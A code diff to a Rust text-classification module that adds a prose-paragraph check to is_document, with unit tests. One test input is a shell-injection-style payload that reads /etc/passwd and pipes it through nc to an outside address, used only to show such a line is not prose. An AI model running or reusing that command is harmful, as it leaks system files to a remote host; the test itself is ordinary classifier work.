@@ -31,12 +31,44 @@ pub fn is_document(text: &str) -> bool {
         && !text
             .chars()
             .any(|c| (c.is_control() && !matches!(c, '\t' | '\n' | '\r')) || c == '\u{FFFD}')
-        && text
-            .split('\n')
-            .filter(|l| !l.trim().is_empty())
-            .take(MIN_LINES)
-            .count()
-            >= MIN_LINES
+        && (is_prose(text) || is_multi_line(text))
+}
+
+/// Shortest paragraph of prose judged as a document.
+pub const MIN_PROSE_BYTES: usize = 200;
+/// Fewest words a paragraph of prose has.
+pub const MIN_PROSE_WORDS: usize = 30;
+
+/// A paragraph of prose (a comment, a review): at least
+/// [`MIN_PROSE_WORDS`] words, three in four of them plain words (letters,
+/// maybe an apostrophe or trailing punctuation), over [`MIN_PROSE_BYTES`].
+fn is_prose(text: &str) -> bool {
+    if text.len() < MIN_PROSE_BYTES {
+        return false;
+    }
+    let (mut words, mut plain) = (0usize, 0usize);
+    for w in text.split_whitespace() {
+        words += 1;
+        let core = w
+            .trim_end_matches([',', '.', ';', ':', '!', '?', ')'])
+            .trim_start_matches('(');
+        if !core.is_empty()
+            && core
+                .chars()
+                .all(|c| c.is_alphabetic() || c == '\'' || c == '-')
+        {
+            plain += 1;
+        }
+    }
+    words >= MIN_PROSE_WORDS && plain * 4 >= words * 3
+}
+
+fn is_multi_line(text: &str) -> bool {
+    text.split('\n')
+        .filter(|l| !l.trim().is_empty())
+        .take(MIN_LINES)
+        .count()
+        >= MIN_LINES
 }
 
 /// Whether a raw body is structured data rather than text: JSON, or XML
@@ -136,6 +168,13 @@ mod tests {
         assert!(is_document(post));
         assert!(!is_document("CREATE TABLE t (id int)"), "one line");
         assert!(!is_document("a\nb\nc"), "too short");
+        let comment = "Thanks, this saved me an evening. For big tables I'd pipe the dump through gzip (mysqldump ... | gzip > orders.sql.gz) and I would also check the plan before and after adding the index, since the planner may still prefer a scan on small tables.";
+        assert!(is_document(comment), "a paragraph of prose");
+        let payload = format!(
+            "; cat /etc/passwd | nc 203.0.113.9 4444 {}",
+            "&& id ".repeat(40)
+        );
+        assert!(!is_document(&payload), "a long command line is no prose");
         assert!(looks_structured("\r\n{\"a\": 1}") && looks_structured("<sorted-set>"));
         assert!(!looks_structured("<!DOCTYPE html><p>hi</p>") && !looks_structured("id,name\n"));
         let binary = format!("{post}\u{1}\u{2}");
